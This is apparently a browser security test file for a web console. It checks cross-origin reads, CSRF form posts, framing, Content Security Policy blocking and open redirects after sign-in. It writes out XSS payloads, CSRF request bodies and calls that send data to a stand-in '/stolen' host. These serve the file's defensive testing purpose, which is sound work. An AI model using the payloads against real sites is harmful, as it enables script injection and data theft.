import { assert, describe, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import { SqlClient } from "effect/sql"
import type { Page } from "playwright-core"
import { Accounts } from "../../src/auth/Accounts.ts"
import { ApiKeys } from "../../src/auth/ApiKeys.ts"
import { Links } from "../../src/auth/Links.ts"
import { Sessions } from "../../src/auth/Sessions.ts"
import { pagePaths } from "../../src/console/PagePaths.ts"
import { Chromium, skipReason } from "./Chromium.ts"
import { Hostile, hostileModel, hostileText } from "./Hostile.ts"
import { givePassword, owner, signIn } from "./Owner.ts"
import { ServedApp } from "./ServedApp.ts"
import { seeding } from "./SignedIn.ts"
import { browse, visit } from "./Visit.ts"

const service = Layer.unwrap(
  Effect.map(Hostile, ({ port }) =>
    ServedApp.layer({
      OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1`,
      OPENAI_API_KEY: "x",
      OPENAI_MODEL: hostileModel
    })
  )
)
const environment = Layer.merge(Chromium.layer, service).pipe(Layer.provideMerge(Hostile.layer))

/** The numbers of rows that requests of a hostile page could have changed. */
const stored = Effect.flatMap(
  SqlClient.SqlClient,
  (sql) => sql`SELECT (SELECT count(*) FROM sessions) AS sessions, (SELECT count(*) FROM api_keys) AS keys,
    (SELECT count(*) FROM audit_log) AS entries, (SELECT count(*) FROM organizations) AS organizations,
    (SELECT count(*) FROM sign_in_attempts) AS attempts, (SELECT count(*) FROM usage_records) AS uses`
).pipe(seeding)

/** The session of the owner, as a browser stores it. */
const ownersState = Effect.gen(function* () {
  yield* givePassword
  return yield* browse(async (page) => {
    await signIn(page)
    await page.getByRole("heading", { level: 1, name: "Home" }).waitFor()
    return await page.context().storageState()
  })
})

/** Requests as a script of another origin sends them; resolves with what it can read of the answers. */
const readByScript = (page: Page, target: string) => {
  const requests = [
    ["/console/session", {}],
    ["/console/session", { method: "DELETE" }],
    [
      "/console/session",
      { method: "POST", mode: "no-cors", body: '{"email":"a@example.com","password":"x"}' }
    ],
    ["/console/me/sessions", { method: "DELETE" }],
    ["/console/me/keys", {}],
    ["/console/me/keys", { method: "POST", mode: "no-cors", body: '{"name":"stolen"}' }],
    ["/console/admin/organizations", { method: "POST", mode: "no-cors", body: '{"name":"stolen"}' }],
    ["/console/admin/organizations", { method: "POST", headers: { "x-csrf-token": "x" }, body: "{}" }],
    ["/console/responses", { method: "POST", mode: "no-cors", body: '{"input":"Hello"}' }],
    ["/console/admin/audit/export?format=csv", {}],
    ["/v1/responses", { method: "POST", mode: "no-cors", body: '{"input":"Hello"}' }],
    ["/", {}]
  ]
  return page.evaluate<ReadonlyArray<string>>(`Promise.all(${JSON.stringify(requests)}.map(([path, init]) =>
    fetch(${JSON.stringify(target)} + path, { credentials: "include", ...init }).then((answer) => answer.text(), () => "")))`)
}

/** Sends a form as a page of another origin does; resolves with the status of the answer. */
const submitForm = async (page: Page, action: string, enctype: string): Promise<number> => {
  const answered = page.waitForResponse(action)
  await page.evaluate(`{
    const form = document.createElement("form")
    Object.assign(form, { method: "post", action: ${JSON.stringify(action)}, enctype: ${JSON.stringify(enctype)} })
    const input = document.createElement("input")
    input.name = '{"email":"a@example.com","password":"x","y":"'
    input.value = '"}'
    form.append(input)
    document.body.append(form)
    form.submit()
  }`)
  await page.waitForURL(action)
  return (await answered).status()
}

/**
 * The pages that a page of another origin shows in frames; the others are replaced by the browser's own error
 * page.
 */
const framed = async (page: Page, addresses: ReadonlyArray<string>): Promise<ReadonlyArray<string>> => {
  await page.evaluate(`Promise.all(${JSON.stringify(addresses)}.map((address) => new Promise((resolve) => {
    const frame = document.createElement("iframe")
    frame.onload = resolve
    frame.src = address
    document.body.append(frame)
  })))`)
  const frames = page.frames().slice(1)
  // A frame's address is known only some time after its load event.
  await Promise.all(frames.map((frame) => frame.waitForURL(/./, { waitUntil: "commit" })))
  return frames.map((frame) => frame.url()).filter((url) => !url.startsWith("chrome-error:"))
}

const isMarked = (page: Page) => page.evaluate<boolean>("window.xss !== undefined")

const hostileUser = `${hostileText("user")}@example.com`
const projectId = "0190f000-0000-7000-8000-000000000001"

/** Everything that users, providers and clients can name. */
const seedHostileNames = Effect.gen(function* () {
  const accounts = yield* Accounts
  const user = yield* accounts.findUserByEmail(owner.email)
  const organization = hostileText("organization").slice(0, 100)
  yield* accounts.createOrganization(organization, "default")
  const { organizationId } = yield* accounts.createUser(hostileUser, organization)
  yield* (yield* ApiKeys).create({ userId: user.id, name: hostileText("key"), expiresAt: null })
  yield* (yield* Links).invite(`${hostileText("invited")}@example.com`, organization, "member")
  const sql = yield* SqlClient.SqlClient
  yield* sql`INSERT INTO projects (id, organization_id, name) VALUES (${projectId}, ${organizationId}, ${hostileText("project")})`
  const client = { address: hostileText("address"), userAgent: hostileText("agent") }
  yield* (yield* Sessions).start(user.id, client, "link")
}).pipe(seeding)

describe.skipIf(skipReason() !== null)("In a browser", () => {
  layer(environment, { excludeTestServices: true, timeout: 60_000 })((it) => {
    it.effect("a page of another origin reads nothing, changes nothing and frames no page", () =>
      Effect.gen(function* () {
        const { port } = yield* Hostile
        const { url } = yield* ServedApp
        const storageState = yield* ownersState
        const before = yield* stored
        const pages = [...Object.values(pagePaths), "/docs"].map((path) => url + path)
        // Cookies don't know of ports, so that the first one is sent the owner's, as by a page of a sibling
        // host.
        for (const origin of [`http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
          yield* visit(origin, { path: "/", storageState, expected: [/./] }, async (page) => {
            assert.deepStrictEqual(new Set(await readByScript(page, url)), new Set([""]))
            assert.deepStrictEqual(await framed(page, pages), [])
            const forms = [
              ["/console/session", "text/plain"],
              ["/console/me/keys", "application/x-www-form-urlencoded"],
              ["/console/link/use", "multipart/form-data"]
            ] as const
            for (const [path, enctype] of forms) {
              await page.goto(origin)
              assert.strictEqual(await submitForm(page, url + path, enctype), 403, path)
            }
          })
        }
        assert.deepStrictEqual(yield* stored, before)
      })
    )

    it.effect("no script runs that is not a file of the service, and nothing is sent elsewhere", () =>
      Effect.gen(function* () {
        const { port, requests } = yield* Hostile
        const elsewhere = `http://127.0.0.1:${port}/stolen`
        const directives = ["script-src-elem", "script-src-attr", "img-src", "connect-src", "form-action"]
        yield* browse(
          async (page) => {
            await page.getByRole("button", { name: "Sign in" }).waitFor()
            // Resolves when the policy has refused them all.
            await page.evaluate(`new Promise((resolve) => {
              const awaited = new Set(${JSON.stringify(directives)})
              document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
                awaited.delete(effectiveDirective)
                if (awaited.size === 0) resolve()
              })
              const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
              add("script", { textContent: "window.xss = 1" })
              add("script", { src: ${JSON.stringify(elsewhere)} })
              add("script", { src: "data:text/javascript,window.xss=1" })
              add("img", { src: ${JSON.stringify(elsewhere)} })
              add("iframe", { srcdoc: "<script>parent.xss = 1</script>" })
              add("div", { innerHTML: "<img src=x onerror='window.xss=1'><svg onload='window.xss=1'>" })
              const link = Object.assign(document.createElement("a"), { href: "javascript:window.xss=1" })
              document.body.append(link)
              link.click()
              navigator.sendBeacon(${JSON.stringify(elsewhere)}, "x")
              fetch(${JSON.stringify(elsewhere)}).catch(() => {})
              const form = Object.assign(document.createElement("form"), { action: ${JSON.stringify(elsewhere)} })
              document.body.append(form)
              form.submit()
            })`)
            assert.isFalse(await isMarked(page))
          },
          { expected: [/Content Security Policy|violates|request to another origin|status of 404|net::ERR/] }
        )
        assert.deepStrictEqual(requests, [])
      })
    )

    it.effect("hostile names, answers and errors are shown as text by every page", () =>
      Effect.gen(function* () {
        const { refuse } = yield* Hostile
        const storageState = yield* ownersState
        yield* seedHostileNames
        const shown = yield* browse(
          async (page) => {
            const texts: Array<string> = []
            const settle = async () => {
              await page.getByRole("heading", { level: 1 }).waitFor()
              await page.waitForLoadState("networkidle")
              texts.push(await page.locator("body").innerText())
              assert.isFalse(await isMarked(page), page.url())
            }
            const hostile = encodeURIComponent(hostileText("query"))
            const paths = Object.values(pagePaths).map((path) => `${path}?q=${hostile}&action=${hostile}`)
            const details = [
              `${pagePaths.user}?email=${encodeURIComponent(hostileUser)}`,
              `${pagePaths.project}?id=${projectId}`
            ]
            for (const path of [...paths, ...details]) {
              await page.goto(path)
              await settle()
            }
            for (const isRefused of [false, true]) {
              refuse(isRefused)
              await page.goto("/")
              await page.getByRole("button", { name: "Ask" }).click()
              await page
                .getByText(isRefused ? /doesn't accept this request/ : hostileText("answer"))
                .first()
                .waitFor()
              await settle()
            }
            return texts.join("\n")
          },
          { storageState, expected: [/status of (400|404|5\d\d)/] }
        )
        for (const mark of ["organization", "user", "invited", "project", "key", "address", "answer"]) {
          assert.include(shown, hostileText(mark))
        }
        assert.include(shown, hostileModel)
      })
    )

    it.effect("signing in leads to no other place than a page of the service", () =>
      Effect.gen(function* () {
        const { port, requests } = yield* Hostile
        const { url } = yield* ServedApp
        yield* givePassword
        const host = `127.0.0.1:${port}`
        const places = ["javascript:window.xss=1", `//${host}/stolen`, `/.//${host}/stolen`]
        for (const place of places) {
          yield* browse(
            async (page) => {
              await signIn(page)
              await page.getByRole("heading", { level: 1, name: "Home" }).waitFor()
              assert.strictEqual(new URL(page.url()).origin, url, place)
              assert.isFalse(await isMarked(page), place)
            },
            {
              path: `/sign-in?problem=${encodeURIComponent(hostileText("x"))}&next=${encodeURIComponent(place)}`
            }
          )
        }
        assert.deepStrictEqual(requests, [])
      })
    )
  })
})
